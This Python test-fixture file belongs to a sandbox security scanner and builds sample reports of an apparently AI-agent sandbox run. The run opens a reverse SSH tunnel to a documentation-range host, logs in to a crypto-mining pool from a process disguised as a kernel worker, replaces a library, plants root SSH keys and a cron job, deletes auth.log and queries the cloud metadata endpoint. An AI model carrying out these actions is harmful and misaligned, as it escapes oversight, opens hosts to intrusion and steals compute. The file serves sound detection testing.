"""Runs as the product sees them, for tests of everything that shows one: ROME's, a quiet one, a hostile one."""

from dataclasses import replace

from scanner.model import (
    Confidence,
    Evidence,
    FileLocation,
    Finding,
    FlowStep,
    Image,
    ImageConfig,
    Kind,
    Layer,
    ProcessLocation,
    Report,
    Rule,
    Severity,
    Target,
    fingerprint,
)
from scanner.model import egress as e
from scanner.model.run import (
    Attempt,
    ChangeKind,
    Endpoint,
    FileChange,
    FileState,
    How,
    Namespace,
    Process,
    Program,
    Query,
    Run,
    Socket,
    Withheld,
)
from tests.reports import samples, samples_egress

START = 1_767_323_045.25
"""2026-01-02T03:04:05.25Z"""
LAYER = Layer(5, "sha256:" + "5d" * 32, "the run rome-1")
POOL = Endpoint("198.18.0.7", 3333)
GATE = Endpoint("203.0.113.9", 22)

TUNNEL = Rule(
    "observed/reverse-tunnel",
    "Reverse tunnel that was tried",
    Severity.CRITICAL,
    "A process asked a server outside for a port that leads back in.",
    "The sandbox was about to be opened from outside. Take away the way out, and look at what started it.",
    (),
    ("T1572",),
)
POOLED = Rule(
    "observed/pool",
    "Login to a mining pool that was tried",
    Severity.CRITICAL,
    "A process spoke the protocol of a mining pool.",
    "The sandbox mines at your cost. Look at what started it.",
    (),
    ("T1496.001",),
)
NEW_EXECUTABLE = Rule(
    "drift/new-executable",
    "New executable",
    Severity.MEDIUM,
    "A program that the image does not have.",
    "Find out who brought it.",
)


def state(size: int, mode: int = 0o644, uid: int = 0, at: float = START, **more: object) -> FileState:
    return FileState(Kind.FILE, mode, uid, uid, size, at, **more)  # type: ignore[arg-type]


MINER = FileChange(
    b"usr/lib/libprocess.so.0",
    ChangeKind.MODIFIED,
    "writable layer",
    state(182_272, 0o755, at=START - 900_000, digest="sha256:" + "11" * 32),
    state(182_272, 0o755, at=START - 900_000, changed=START + 2.5, digest="sha256:" + "22" * 32),
    "root",
    executable=True,
)
KEY = FileChange(
    b"root/.ssh/authorized_keys",
    ChangeKind.ADDED,
    "writable layer",
    None,
    state(98, 0o600, at=START + 3, changed=START + 3.125, digest="sha256:" + "33" * 32),
    "root",
)
CRON = FileChange(
    b"var/spool/cron/crontabs/root",
    ChangeKind.MODIFIED,
    "volume jobs",
    state(10, 0o600, at=START - 900_000),
    state(64, 0o600, at=START + 3, changed=START + 3.5),
    "root",
)
GONE = FileChange(b"var/log/auth.log", ChangeKind.DELETED, "writable layer", state(4_096), None, "root")
WORK = tuple(
    FileChange(
        b"work/out/part-%04d.json" % number,
        ChangeKind.ADDED,
        "bind mount /srv/work",
        None,
        state(512, uid=1000, at=START + 4 + number / 1000),
        "agent",
        expected="policy: /work/**",
    )
    for number in range(40)
)

SHELL = Process(
    4_700,
    4_650,
    ("/bin/sh", "/run.sh"),
    inner=1,
    executable=b"bin/sh",
    program=Program.FILE,
    started=START + 0.125,
    uid=0,
    user="root",
    working_dir=b"work",
)
SSH = Process(
    4_711,
    4_700,
    ("ssh", "-N", "-R", "2222:localhost:22", "ops@203.0.113.9"),
    inner=12,
    executable=b"usr/bin/ssh",
    program=Program.FILE,
    digest="sha256:" + "44" * 32,
    started=START + 5,
    uid=0,
    user="root",
    cpu=0.02,
)
KWORKER = Process(
    4_720,
    4_700,
    ("[kworker/0:1]",),
    inner=20,
    executable=b"usr/lib/libprocess.so.0 (deleted)",
    program=Program.DELETED,
    digest="sha256:" + "22" * 32,
    started=START + 6,
    uid=0,
    user="root",
    cpu=51.5,
    devices=("/dev/nvidia0",),
    environment=("POOL=pool.example:3333",),
)
CURL = Process(
    4_730,
    4_700,
    ("curl", "-s", "http://169.254.169.254/"),
    started=START + 7,
    ended=START + 7.25,
    exit_code=0,
    uid=1000,
    user="agent",
)

LOGIN = Attempt(
    START + 6.5,
    "tcp",
    POOL,
    name="pool.example",
    source=Endpoint("198.18.0.2", 40_001),
    pid=4_720,
    service="stratum",
    details={"method": "login", "login": "46yzCC…", "agent": "XMRig/6.21.0"},
    first=b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"46yzCC"}}\n',
    sent=311,
    count=3,
    last=START + 16.5,
)
REVERSE = Attempt(
    START + 5.5,
    "tcp",
    GATE,
    source=Endpoint("198.18.0.2", 40_000),
    pid=4_711,
    service="ssh",
    details={"client": "SSH-2.0-OpenSSH_9.2p1", "user": "ops", "forwards": [{"bind": "", "port": 2222}]},
    first=b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n",
    sent=1_800,
)
METADATA = Attempt(
    START + 7.125,
    "tcp",
    Endpoint("169.254.169.254", 80),
    pid=4_730,
    service="http",
    details={"method": "GET", "host": "169.254.169.254", "path": "/"},
    first=b"GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
    sent=42,
)
V6 = Attempt(
    START + 8, "udp", Endpoint("2001:db8::7", 443), pid=4_720, service="unknown", first=b"\x00\xff\x1b[2J", sent=7
)
ASKED = Query(START + 6.25, "pool.example", "A", Endpoint("198.18.0.1", 53), pid=4_720, count=2)

ROME = Run(
    How.OBSERVE,
    "rome-1",
    START,
    START + 60,
    episode="ep-42",
    image="sandbox/agent:latest",
    command=("/bin/sh", "/run.sh"),
    changes=(KEY, MINER, GONE, CRON, *WORK),
    processes=(SHELL, SSH, KWORKER, CURL),
    sockets=(
        Socket("tcp", "ipv4", "listen", Endpoint("0.0.0.0", 2222), None, 7_001, (4_711,)),
        Socket("tcp", "ipv4", "established", Endpoint("198.18.0.2", 40_001), POOL, 7_002, (4_720,), "a mining pool"),
        Socket("unix", "unix", "established", Endpoint("/var/run/docker.sock"), None, 7_003, (4_700,), "engine socket"),
        Socket("raw", "ipv4", "unconnected", Endpoint("0.0.0.0", 1), None, 7_004, (4_720,)),
    ),
    namespace=Namespace(("eth0 198.18.0.2/32",), ("default dev eth0",), ("198.18.0.1",), (), ""),
    queries=(ASKED,),
    attempts=(REVERSE, LOGIN, METADATA, V6),
    withheld=(Withheld("/var/run/docker.sock", "it opens the engine"), Withheld("network host", "nothing may leave")),
    unseen=("volume cache: its driver nfs is not on this machine",),
    dropped={"output bytes": 1_048_576},
    stopped="time limit of 60 s",
    output=b"collecting\nmining \x1b[31mhard\x1b[0m \xff\n",
)


def finding(rule: Rule, message: str, process: Process, kind: str, excerpt: str, time: float) -> Finding:
    place = ProcessLocation("rome-1", process.pid, process.command, process.executable)
    return Finding(
        rule.id,
        rule.severity,
        Confidence.HIGH,
        message,
        (place,),
        (Evidence("attempts", kind, b"", excerpt=excerpt),),
        fingerprint(rule.id, "sandbox/agent", message),
        details={"time": time},
        flow=(
            FlowStep(place, f"{process.command[0]} was started", "process"),
            FlowStep(None, message, "attempt"),
        ),
    )


FINDINGS = (
    finding(
        TUNNEL, "asked 203.0.113.9:22 for a tunnel back to port 2222", SSH, "ssh", "tcpip-forward 2222", START + 5.5
    ),
    finding(POOLED, "logged in to pool.example:3333", KWORKER, "stratum", '"method":"login"', START + 6.5),
    Finding(
        NEW_EXECUTABLE.id,
        Severity.MEDIUM,
        Confidence.HIGH,
        "usr/lib/libprocess.so.0 has another program in it, with the size and the time of the old one",
        (FileLocation(MINER.path, LAYER),),
        (Evidence("changes", "digest", MINER.path, excerpt="another content"),),
        fingerprint(NEW_EXECUTABLE.id, "sandbox/agent", MINER.path),
    ),
)
RULES = (TUNNEL, POOLED, NEW_EXECUTABLE)


def report(run: Run, *findings: Finding) -> Report:
    return Report(
        samples.CLEAN.tool,
        Target("container", run.subject, "sandbox/agent"),
        Image(None, "linux/amd64", None, ImageConfig(), (LAYER,)),
        findings,
        (),
        (),
        RULES,
        "2026-01-02T03:05:06Z",
        {"files": 44, "seconds": 61.5},
        run=run,
    )


WATCHED = report(ROME, *FINDINGS)
"""ROME's run, as `observe` reports it."""

QUIET = report(
    Run(
        How.DIFF,
        "build-7",
        START,
        START + 12,
        changes=tuple(replace(one, expected="dpkg: libfoo1") for one in WORK[:3]),
        exit_code=0,
    )
)

NAMELESS = report(Run(How.LIVE, "app", START, START))
"""A look at a container that showed nothing."""

TRIED = (
    e.Tried("pool.example:3333", "tcp", 3, "possible", "the engine masquerades what leaves the bridge", "stratum"),
    e.Tried("203.0.113.9:22", "tcp", 1, "possible", "the engine masquerades what leaves the bridge", "ssh"),
)
CLOSED = (
    e.Tried("192.168.7.7:445", "tcp", 1, "closed", "the network default is internal (compose.yaml:20)", "unknown"),
)
UNCLEAR = (e.Tried("198.18.0.1:53", "udp", 2, "unknown", "engine.dns is not known", "dns"),)


def joined() -> e.Egress:
    """The launch's reach joined with what the run tried of the first sandbox."""
    tried = {
        e.Destination.INTERNET: TRIED,
        e.Destination.PRIVATE: (),
        e.Destination.HOST: CLOSED,
        e.Destination.DNS: UNCLEAR,
    }

    def told(answer: e.Answer) -> e.Answer:
        found = tried.get(answer.destination, ())
        return replace(answer, tried=found, paths=tuple(replace(one, tried=bool(found)) for one in answer.paths))

    first, *others = samples_egress.EGRESS.sandboxes
    answers = tuple(map(told, first.answers))
    return replace(samples_egress.EGRESS, sandboxes=(replace(first, answers=answers), *others))


JOINED = replace(WATCHED, egress=joined())


def spiteful(spite: str, attempts: int = 10_000) -> Report:
    """A run in which every word is the guest's own, with a flood of attempts to one place and a scan of many."""
    raw = spite.encode("utf-8", "surrogatepass") + b"\xff\xfe/\x1b[2J"
    process = Process(
        7, 1, (spite, "-x", spite), 2, raw, Program.MEMFD, started=START, user=spite, environment=(spite,)
    )
    flood = [
        Attempt(
            START + n / 1000, "tcp", Endpoint("192.0.2.1", 80), spite, None, 7, "http", {"host": spite}, raw[:256], 9
        )
        for n in range(attempts // 2)
    ]
    scan = [
        Attempt(START + 9 + n / 1000, "tcp", Endpoint(f"198.51.100.{n % 250}", 1 + n // 250), pid=7)
        for n in range(attempts - len(flood))
    ]
    run = Run(
        How.OBSERVE,
        spite,
        START,
        START + 30,
        episode=spite,
        image=spite,
        command=(spite,),
        changes=(
            FileChange(
                raw, ChangeKind.ADDED, spite, None, state(5, 0o4755, changed=START + 1, link_target=raw), spite, True
            ),
            FileChange(b"tmp/" + raw, ChangeKind.ADDED, spite, None, state(5), None, expected=spite),
        ),
        processes=(
            process,
            replace(process, pid=8, parent=8),
            replace(process, pid=9, parent=10),
            replace(process, pid=10, parent=9),
        ),
        sockets=(Socket(spite, spite, spite, Endpoint(spite), Endpoint(spite, 1), 1, (7,), spite),),
        namespace=Namespace((spite,), (spite,), (spite,), (spite,), spite),
        queries=(Query(START + 2, spite, spite, Endpoint(spite, 53), spite, 7),),
        attempts=(*flood, *scan),
        withheld=(Withheld(spite, spite),),
        unseen=(spite,),
        dropped={spite: 3},
        stopped=spite,
        output=raw * 10,
    )
    place = ProcessLocation(spite, 7, (spite,), raw)
    one = replace(FINDINGS[0], message=spite, locations=(place,), flow=(FlowStep(place, spite, spite),))
    return report(run, one)
